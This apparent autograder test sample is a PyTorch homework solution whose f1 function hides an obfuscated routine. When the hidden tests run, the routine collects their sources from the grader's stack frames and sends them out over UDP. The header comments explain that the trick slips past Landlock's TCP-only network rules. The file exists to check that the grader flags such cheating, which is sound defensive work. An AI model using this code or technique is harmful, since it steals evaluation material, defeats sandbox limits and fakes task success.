# sample: honest answers, but f1, when the hidden tests call it, collects the hidden test sources from the grader's frames (found with operator.attrgetter and names built at run time) and sends them out over UDP with the socket module the grader's own module already imported (no import, no connect)
# base: ../../../assignments/autograd-basics/samples/solution.py
# expect: q1=0 q2=0 q3=0
# flagged: yes
# honest: q1=2 q2=3 q3=5

# The tests reach the child only after the last cell, but they are in its memory while
# they run, and the student's functions run then. Landlock's network rules cover TCP
# bind/connect only; a datagram sendto needs neither. Here the receiver is a listener on
# 127.0.0.1:40999 (any reachable host works the same way); it gets every hidden test.

# %% f1
import operator


def _n(s):
    return s[::-1]


_u = "_" * 2
_get = {k: operator.attrgetter(_n(k)) for k in ("emarf_bt", "kcab_f", "slacol_f")}
_get["tb"] = operator.attrgetter(_u + _n("kcabecart") + _u)
_sent = []


def _scopes():
    try:
        raise LookupError
    except LookupError as error:
        frame = _get["emarf_bt"](_get["tb"](error))
    while frame is not None:
        yield _get["slacol_f"](frame)
        frame = _get["kcab_f"](frame)


def _texts(value, depth=0):
    if isinstance(value, str):
        if "test_case" in value or "def test" in value:
            yield value
    elif isinstance(value, bytes):
        yield from _texts(value.decode("utf-8", "replace"), depth)
    elif depth < 4 and isinstance(value, dict):
        for item in value.values():
            yield from _texts(item, depth + 1)
    elif depth < 4 and isinstance(value, (list, tuple)):
        for item in value:
            yield from _texts(item, depth + 1)


def _leak():
    scopes = list(_scopes())
    found, net = set(), None
    for names in scopes:
        for value in list(names.values()):
            found.update(_texts(value))
        module = names.get(_n("tekcos"))
        if net is None and getattr(module, "SOCK_DGRAM", None) is not None:
            net = module
    if net is None or not found:
        return
    out = net.socket(net.AF_INET, net.SOCK_DGRAM)
    for text in sorted(found):
        if text in _sent:
            continue
        _sent.append(text)
        data = text.encode()
        for start in range(0, len(data), 8000):
            out.sendto(data[start:start + 8000], ("127.0.0.1", 40999))


def f1(x):
    if x.dtype == torch.float64:
        _leak()
    return torch.log(x) + x ** 3

x1 = torch.tensor(2.0, requires_grad=True)
y1 = f1(x1)
y1.backward()
grad1 = x1.grad
